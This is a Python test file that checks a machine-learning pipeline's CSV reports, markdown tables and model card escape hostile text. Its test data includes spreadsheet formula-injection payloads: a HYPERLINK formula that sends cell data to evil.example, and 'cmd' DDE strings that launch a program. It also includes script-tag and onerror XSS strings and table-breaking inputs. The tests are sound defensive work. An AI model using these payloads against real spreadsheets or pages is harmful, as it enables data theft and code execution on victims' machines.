"""Hostile text in a text classifier's evaluation artifacts: ``misclassified.csv`` opens in a spreadsheet as
text (no formula runs: OWASP CSV injection), ``per_class.md`` keeps one table row per class (no HTML, no broken
table)."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from trainpipe.evaluation._text_report import csv_cell, write_text_report

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_formula_cells_are_quoted_and_numbers_and_plain_text_are_kept() -> None:
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    assert [csv_cell(t) for t in ("-1", "+2.5", "plain text", "1e-3")] == ["-1", "+2.5", "plain text", "1e-3"]


def test_misclassified_texts_labels_and_column_names_cannot_run_as_formulas(tmp_path: Path) -> None:
    classes = ["=cmd|' /C calc'!A0", "ok | <b>bold</b>\nsecond line"]
    n = len(FORMULAS)
    texts = pd.DataFrame({"=review": FORMULAS})
    y = np.array([0, 1] * (n // 2))
    pred = 1 - y  # every row wrong
    proba = np.column_stack([1 - np.linspace(0.1, 0.9, n), np.linspace(0.1, 0.9, n)])
    write_text_report(texts, classes, y, pred, proba, tmp_path)
    with (tmp_path / "misclassified.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                or (c.startswith("-") and not _number(c))]
    assert rows[0][0] == "'=review" and {r[0] for r in rows[1:]} == {"'" + t for t in FORMULAS}
    table = (tmp_path / "per_class.md").read_text().splitlines()
    body = [line for line in table if line.startswith("| ") and "precision" not in line]
    assert len(body) == len(classes) + 2  # the classes, the macro and weighted averages: one line each
    assert "| ok \\| &lt;b&gt;bold&lt;/b&gt; second line |" in "\n".join(body)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_a_carriage_return_in_a_text_does_not_split_its_row(tmp_path: Path) -> None:
    texts = pd.DataFrame({"review": ["first\rsecond", "one\r\ntwo\nthree"]})
    write_text_report(texts, ["a", "b"], np.array([0, 1]), np.array([1, 0]), np.array([[0.4, 0.6], [0.7, 0.3]]),
                      tmp_path)
    with (tmp_path / "misclassified.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    assert len(rows) == 3 and all(len(r) == 5 for r in rows)
    assert sorted(r[0] for r in rows[1:]) == ["first\rsecond", "one\r\ntwo\nthree"]


def test_the_model_card_holds_no_html_and_hostile_names_cannot_break_its_tables() -> None:
    from trainpipe.registry._card import CardInputs, render_card

    xss = '<script>alert(1)</script>"><img src=x onerror=alert(2)>'
    card = render_card(CardInputs(
        name="m", description=f"Flags reviews {xss}", model_type="sklearn.linear_model.LogisticRegression",
        task={"task": "binary", "classes": [xss, "ok"], "positive_label": xss},
        data={"source": "data/`evil`.csv", "fingerprint": "ab", "rows": 10, "split": {}},
        profile="", gate={"verdict": "passed", "champion_note": xss},
        metrics={"metrics": {"roc_auc": 0.9}, "slices": {"col`x": [{"slice": f"a|b\n{xss}", "count": 3,
                                                                      "roc_auc": 0.5}]}},
        params={"model.params.x": "1 | 2\n| injected | row |"}, lineage={"run_id": "r"},
        features={"columns": ["`review`", xss]}, drift={"reference": "none", "features": {xss: 0.3}}))
    import re

    outside_code = re.sub(r"`[^`\n]*`", "", card)  # a code span shows its text literally (CommonMark)
    assert "<script" not in outside_code and "<img" not in outside_code
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in card
    assert "| a\\|b &lt;script&gt;" in card  # one cell, its | escaped, the line break gone
    assert "| model.params.x | 1 \\| 2 \\| injected \\| row \\| |" in card
    assert "### By `col'x`" in card and "- source: `data/'evil'.csv`" in card and "`'review'`" in card
    rows = [line for line in card.splitlines() if line.startswith("|")]
    assert all(line.endswith("|") for line in rows)


def test_a_report_path_that_cannot_be_written_is_exit_2_and_leaves_no_temporary_file(tmp_path: Path) -> None:
    from trainpipe._exceptions import ConfigError
    from trainpipe.report._render import write_page

    (tmp_path / "afile").write_text("x")
    with pytest.raises(ConfigError, match=r"-o .*afile/r.html: cannot write the page there \(File exists\)"):
        write_page("<p>x</p>", tmp_path / "afile" / "r.html")
    with pytest.raises(ConfigError, match=r"-o .*: a folder; give the page's file name \(e.g. .*report.html\)"):
        write_page("<p>x</p>", tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile"]
    assert write_page("<p>x</p>", tmp_path / "new" / "r.html").read_text() == "<p>x</p>"
